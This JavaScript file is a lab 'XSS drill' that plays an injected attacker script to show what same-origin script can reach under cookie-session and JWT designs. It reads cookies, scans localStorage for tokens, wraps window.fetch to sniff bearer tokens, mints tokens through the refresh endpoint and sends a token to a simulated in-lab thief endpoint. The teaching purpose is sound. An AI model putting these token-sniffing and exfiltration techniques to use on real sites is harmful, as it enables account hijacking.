// The XSS drill: "attacker" script, as an injected <script> would run it, in the lab's origin (the origin both panes
// use). It knows nothing of the page's internals: it has what any same-origin script has — document.cookie,
// localStorage, fetch (which attaches the HttpOnly cookies for it), and the page's own DOM and functions.
// Loaded from our origin on demand (the CSP forbids inline script, so a real XSS would need a hole this page does
// not have; the drill shows what it could do if it had one). Lab-only: the apps never serve this.
;(() => {
  const readBody = async (res) => {
    const text = await res.text()
    try {
      return text ? JSON.parse(text) : null
    } catch {
      return text
    }
  }
  const get = async (url, init = {}) => {
    const res = await fetch(url, { credentials: 'same-origin', ...init })
    return { status: res.status, body: await readBody(res) }
  }
  const code = (r) => `${r.status}${r.body?.error ? ` ${r.body.error}` : ''}`
  const looksLikeJwt = (v) => typeof v === 'string' && /^ey[\w-]+\.[\w-]+\.[\w-]*/.test(v)

  /** Steals the Authorization header of the page's next API call by wrapping fetch (the page's token in memory). */
  async function sniffBearer(trigger) {
    const original = window.fetch
    let seen = null
    window.fetch = function sniffed(input, init) {
      const h = new Headers(init?.headers || (input instanceof Request ? input.headers : undefined))
      const auth = h.get('authorization')
      if (auth && !seen) seen = auth.replace(/^Bearer\s+/i, '')
      return original.call(this, input, init)
    }
    try {
      trigger()
      for (let i = 0; i < 50 && !seen; i++) await new Promise((r) => setTimeout(r, 100))
    } finally {
      window.fetch = original
    }
    return seen
  }

  async function sessions(prefix) {
    const rows = []
    const cookies = document.cookie
    rows.push({
      step: 'read document.cookie',
      result: JSON.stringify(cookies),
      meaning: cookies.includes('sid=')
        ? 'The session cookie is readable: HttpOnly is missing!'
        : 'Nothing: the session cookie is HttpOnly, so no script can read or copy it.',
      verdict: cookies.includes('sid=') ? 'bad' : 'ok',
      got: { sessionCookie: cookies.includes('sid=') },
    })
    const tokens = Object.keys(localStorage).filter((k) => looksLikeJwt(localStorage.getItem(k)))
    rows.push({
      step: 'search localStorage for credentials',
      result: tokens.length ? tokens.join(', ') : 'none',
      meaning: 'A session page keeps nothing there.',
      verdict: tokens.length ? 'warn' : 'ok',
    })
    const me = await get(`${prefix}/me`)
    rows.push({
      step: 'fetch GET /me (the browser attaches the cookie)',
      result: code(me),
      meaning:
        me.status === 200
          ? `It still USES the session: it acts as ${me.body.user.username} while this page is open, without ever seeing the cookie.`
          : 'Not logged in in this pane: log in first to see the script ride the session.',
      verdict: me.status === 200 ? 'bad' : 'warn',
      got: { usedSession: me.status === 200 },
    })
    const dev = await get(`${prefix}/auth/sessions`)
    rows.push({
      step: 'fetch GET /auth/sessions',
      result: code(dev),
      meaning:
        dev.status === 200
          ? `It reads the user’s devices (${dev.body.sessions.length}) and could revoke them: any action the user can take.`
          : 'Refused (not logged in).',
      verdict: dev.status === 200 ? 'bad' : 'warn',
    })
    // Exfiltration: the thief on another machine gets what the script could read — no cookie.
    await get(`/lab/api/pocket/${prefix.slice(1)}/thief`, { method: 'DELETE' })
    const away = await get(`/lab/api/pocket/${prefix.slice(1)}/thief/request`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ method: 'GET', path: '/me' }),
    })
    rows.push({
      step: 'send what it read to the attacker’s machine; GET /me from there',
      result: code(away.body || away),
      meaning:
        'Refused: there was nothing to send. The attack ends when the tab closes (or the user logs out).',
      verdict: (away.body?.status ?? away.status) === 200 ? 'bad' : 'ok',
      got: { worksElsewhere: (away.body?.status ?? away.status) === 200 },
    })
    return rows
  }

  async function jwt(prefix) {
    const rows = []
    const cookies = document.cookie
    rows.push({
      step: 'read document.cookie',
      result: JSON.stringify(cookies),
      meaning: /(^|;\s*)(__Secure-)?rt=/.test(cookies)
        ? 'The refresh cookie is readable: HttpOnly is missing!'
        : 'Nothing: the refresh cookie is HttpOnly (and scoped to /auth): no script can read or copy it.',
      verdict: /(^|;\s*)(__Secure-)?rt=/.test(cookies) ? 'bad' : 'ok',
      got: { refreshCookie: /(^|;\s*)(__Secure-)?rt=/.test(cookies) },
    })
    const stored = Object.keys(localStorage).filter((k) => looksLikeJwt(localStorage.getItem(k)))
    rows.push({
      step: 'search localStorage for tokens',
      result: stored.length
        ? `${stored.join(', ')} (${localStorage.getItem(stored[0]).length} chars)`
        : 'none',
      meaning: stored.length
        ? 'Found: a token in localStorage is one line of script away, and it outlives the tab (the contrast variant is on).'
        : 'None: this page keeps its access token in memory (tick the contrast variant to see the difference).',
      verdict: stored.length ? 'bad' : 'ok',
      got: { localStorageToken: stored.length > 0 },
    })
    const sniffed = await sniffBearer(() => document.getElementById('j-me')?.click())
    rows.push({
      step: 'wrap window.fetch, wait for the page’s next API call',
      result: sniffed ? `Authorization: Bearer <${sniffed.length} chars>` : 'no token (not logged in?)',
      meaning: sniffed
        ? 'The in-memory token IS reachable by same-origin script: memory protects it from storage theft and other tabs, not from script in this page.'
        : 'The page sent no token: log in first.',
      verdict: sniffed ? 'bad' : 'warn',
      got: { sniffedToken: !!sniffed },
    })
    const rf = await get(`${prefix}/auth/refresh`, { method: 'POST' })
    const minted = rf.status === 200 ? rf.body.access_token : null
    rows.push({
      step: 'fetch POST /auth/refresh itself (the browser attaches the refresh cookie)',
      result: minted ? `200 → a fresh access token (${minted.length} chars)` : code(rf),
      meaning: minted
        ? 'Without reading the cookie it mints its own access token: the refresh cookie is USED, not stolen.'
        : 'Refused: no live refresh cookie in this pane.',
      verdict: minted ? 'bad' : 'warn',
      got: { mintedToken: !!minted },
    })
    const token = minted || sniffed
    if (token) {
      const me = await get(`${prefix}/me`, { headers: { Authorization: `Bearer ${token}` } })
      rows.push({
        step: 'GET /me with that token',
        result: code(me),
        meaning: me.status === 200 ? `It acts as ${me.body.user.username}.` : 'Refused.',
        verdict: me.status === 200 ? 'bad' : 'ok',
        got: { usedSession: me.status === 200 },
      })
      const inst = prefix.slice(1)
      await get(`/lab/api/pocket/${inst}/thief`, { method: 'DELETE' })
      await get(`/lab/api/pocket/${inst}/thief/token`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ access_token: token }),
      })
      const away = await get(`/lab/api/pocket/${inst}/thief/request`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ method: 'GET', path: '/me' }),
      })
      const st = away.body?.status ?? away.status
      rows.push({
        step: 'send the token to the attacker’s machine; GET /me from there',
        result: String(st),
        meaning:
          st === 200
            ? 'Accepted from elsewhere: a bearer token works for whoever holds it, until exp, even after this tab closes.'
            : 'Refused.',
        verdict: st === 200 ? 'bad' : 'ok',
        got: { worksElsewhere: st === 200 },
      })
    }
    return rows
  }

  window.labXssDrill = { sessions, jwt }
})()
